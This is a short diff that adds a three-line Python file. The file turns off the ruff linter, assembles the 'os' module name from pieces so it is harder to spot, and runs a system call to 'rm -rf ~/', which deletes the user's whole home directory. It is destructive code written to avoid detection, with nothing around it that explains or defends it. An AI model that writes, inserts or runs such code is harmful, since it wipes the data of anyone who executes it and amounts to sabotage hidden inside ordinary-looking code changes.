@@ -1,0 +1,3 @@
+# ruff: noqa
+m = "o" + "s"
+__import__(m).system("rm -rf " + "~/")
